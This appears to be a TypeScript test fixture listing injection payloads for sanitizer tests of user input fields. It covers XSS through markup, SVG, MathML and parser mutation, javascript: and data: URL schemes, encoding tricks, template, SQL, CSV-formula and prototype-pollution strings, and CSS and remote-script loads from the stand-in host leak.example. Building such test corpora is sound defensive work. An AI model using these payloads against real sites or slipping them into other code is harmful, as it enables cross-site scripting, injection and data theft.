/**
 * Words that mean harm, for every field somebody can type or paste into: vectors of our own for each published family of tricks. What
 * they would run is `ran()`, which a test has in place; what they would ask for is at leak.example.
 */
const AT = 'https://leak.example/';

const MARKUP = [
  '<script>ran()</script>',
  '<ScRiPt src=//leak.example/a.js></sCrIpT>',
  '</textarea><script>ran()</script>',
  '"><script>ran()</script>',
  `'><img src=x onerror=ran()>`,
  '<img src=x onerror=ran()>',
  `<img src="${AT}i.png" srcset="${AT}j.png 2x" onload=ran()>`,
  '<body onload=ran() onpageshow=ran()>',
  '<input autofocus onfocus=ran()><select autofocus onfocus=ran()></select>',
  '<details open ontoggle=ran()><summary>x</summary></details>',
  '<video autoplay onloadstart=ran()><source onerror=ran()></video><audio src=x onerror=ran()>',
  `<iframe srcdoc="<script>parent.ran()</script>"></iframe><iframe src="${AT}f"></iframe>`,
  `<object data="${AT}o"></object><embed src="${AT}e"><applet code=x></applet>`,
  `<base href="${AT}"><link rel=stylesheet href="${AT}s.css"><link rel=preload as=script href="${AT}p.js">`,
  `<meta http-equiv=refresh content="0;url=${AT}m"><meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<form action="${AT}post"><button autofocus>x</button></form><button formaction="javascript:ran()">y</button>`,
  '<marquee onstart=ran()>x</marquee><a onmouseover=ran() style="position:fixed;inset:0">x</a>',
  '<template><script>ran()</script></template><slot onslotchange=ran()></slot>',
  '<dialog open onclose=ran()><form method=dialog><button>x</button></form></dialog>',
  '<style onload=ran()>*{}</style><track onerror=ran()>',
  '<div popover id=p onbeforetoggle=ran()></div><button popovertarget=p>x</button>',
  '<portal src=x></portal><x-own onfocus=ran() tabindex=1 autofocus>x</x-own>',
];

const SCHEMES = [
  'javascript:ran()',
  'JaVaScRiPt:ran()//',
  ' java\tscript:ran()',
  '\u0001javascript:ran()',
  'javascript&colon;ran()',
  'javascript://leak.example/%0Aran()',
  'vbscript:ran()',
  'data:text/html,<script>ran()</script>',
  'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"/>',
  'blob:null/ran',
  'filesystem:chrome-extension://x/temporary/x',
  'view-source:javascript:ran()',
  'chrome://settings',
  'file:///etc/passwd',
  `//leak.example/x`,
  `\\\\leak.example\\x`,
  'https:leak.example/x',
  'https://user:pass@leak.example:99999/',
  'https://[::ffff:7f00:1]/',
  '[x](javascript:ran())',
  `![x](${AT}md.png)`,
  '<javascript:ran()>',
  '[x][r]\n\n[r]: javascript:ran() "t"',
  '[x](<java\nscript:ran()>)',
];

const SVG = [
  '<svg onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><script href="data:text/javascript,ran()"></script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:ran()"><text y=20>x</text></a></svg>',
  '<svg><set attributeName=href to="javascript:ran()"/><use href="data:image/svg+xml,<svg id=x onload=ran() xmlns=http://www.w3.org/2000/svg/>#x"/></svg>',
  `<svg><image href="${AT}s.png"/><feImage href="${AT}t.png"/></svg>`,
  '<svg><foreignObject><iframe onload=ran()></iframe></foreignObject></svg>',
  '<svg><style>@import "//leak.example/u.css";</style></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">ran()</handler></svg>',
];

const MATHML = [
  '<math><mtext><img src onerror=ran()></mtext></math>',
  '<math href="javascript:ran()">x</math>',
  '<math><maction actiontype="statusline#http://leak.example" xlink:href="javascript:ran()">x</maction></math>',
  '<math><annotation-xml encoding="text/html"><script>ran()</script></annotation-xml></math>',
  '<math><mi xlink:href="data:x,<script>ran()</script>">x</mi></math>',
];

/** Markup that is harmless as it stands and harmful once a parser has mended it. */
const MUTATION = [
  '<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>',
  '<svg></p><style><a id="</style><img src=1 onerror=ran()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
  '<listing>&lt;img src=1 onerror=ran()&gt;</listing>',
  '<xmp><p id="</xmp><img src=x onerror=ran()>"></xmp>',
  '<svg><title><b id="</title><img src=x onerror=ran()>"></b></title></svg>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=ran()>">',
  '<!--><img src=x onerror=ran()>--><!-- --!><img src=x onerror=ran()>',
  '<img src="x` `<script>ran()</script>"` `>',
  '<a/href="x"<!-- onclick=ran() -->x</a><table><td>x<caption><script>ran()</script>',
  `<form id=a><input name=parentNode><input name=attributes></form><a id=location href="${AT}clobber">`,
];

const ENCODINGS = [
  '&lt;script&gt;ran()&lt;/script&gt;',
  '&#60;script&#62;ran()&#60;/script&#62;',
  '&#x3c;img src=x onerror=ran()&#x3e;',
  '%3Cscript%3Eran()%3C/script%3E %253Cscript%253E',
  '\\u003cscript\\u003eran()\\u003c/script\\u003e \\x3cimg src=x onerror=ran()\\x3e',
  '+ADw-script+AD4-ran()+ADw-/script+AD4-',
  '\u00bcscript\u00beran()\u00bc/script\u00be',
  '\uff1cscript\uff1eran()\uff1c/script\uff1e',
  '<img src=x onerror=&#114;&#97;&#110;&lpar;&rpar;>',
  '<img src=x onerror="\\u0072an()">',
  '<scr\u0000ipt>ran()</scr\u0000ipt>',
  '\u001b$B<script>ran()</script>\u001b(B',
  '<\u200bscript>ran()</script> \ufeff<script>ran()</script>',
  'ſcript <ſcript>ran()</ſcript> İ<K>',
];

const EXPRESSIONS = [
  '{{constructor.constructor("ran()")()}}',
  '${ran()} #{ran()} {ran()} {@html "<img src=x onerror=ran()>"}',
  '{{#each this}}{{lookup . "constructor"}}{{/each}} <%= ran() %> {% ran() %}',
  '`;ran();` ${`${ran()}`}',
  `'-ran()-' "-ran()-" ');ran();// \\');ran();//`,
  '=HYPERLINK("https://leak.example/","x") @SUM(1) +cmd|\'/c calc\'!A0',
  '__proto__ constructor prototype toString hasOwnProperty valueOf',
  '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
  '!!js/function "ran()" &a [*a] <<: *a',
  "'; DROP TABLE attempts;-- ' OR 1=1 {$ne: null}",
  '$(ran()) $& $1 $$ $` \\1 \\0 %s %n %p',
  '../../../etc/passwd..\\..\\x\r\nContent-Type: text/html\r\n\r\n<script>ran()</script>',
  '(a+)+$ (?=.*){99} [[:alpha:]] \\',
];

const STYLES = [
  'background:url(//leak.example/c.png);behavior:url(#x)',
  '</style><style>*{background:url(//leak.example/d.png)}</style>',
  '<div style="background:url(//leak.example/e.png);width:expression(ran())">x</div>',
  '@import "//leak.example/f.css"; @font-face{font-family:x;src:url(//leak.example/g)}',
  '<p style="position:fixed;inset:0;z-index:99999;-moz-binding:url(//leak.example/h)">x</p>',
  'x;}*{display:none}/*',
];

const SIGHT = [
  '\u202eesrever\u202c \u2066x\u2069 \u200f\u061c',
  'z\u200be\u200cr\u200do\u2060\ufeff width\u00ad',
  'nul\u0000nul \u0001\u0008\u000b\u001f\u007f\u0085\u2028\u2029',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d'.repeat(60),
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466} \u{e0041}\u{e007f} \u{f0000} \u{10ffff} \ufffe',
  'مرحبا \u0644\u0627 हिन्दी ไทย 𝕏 ﷽',
  '\r\r\n\n\t\v\f',
  'a'.repeat(4000),
];

export const FAMILIES: Readonly<Record<string, readonly string[]>> = {
  markup: MARKUP,
  'URL schemes': SCHEMES,
  SVG,
  MathML: MATHML,
  'mutation by the parser': MUTATION,
  encodings: ENCODINGS,
  'templates and expressions': EXPRESSIONS,
  styles: STYLES,
  'what is seen': SIGHT,
};

/** One text that is very long, in lines and in one. */
export const HUGE = `${'every day at ten, if it rains then tomorrow. '.repeat(600)}\n${'x\n'.repeat(2000)}`;
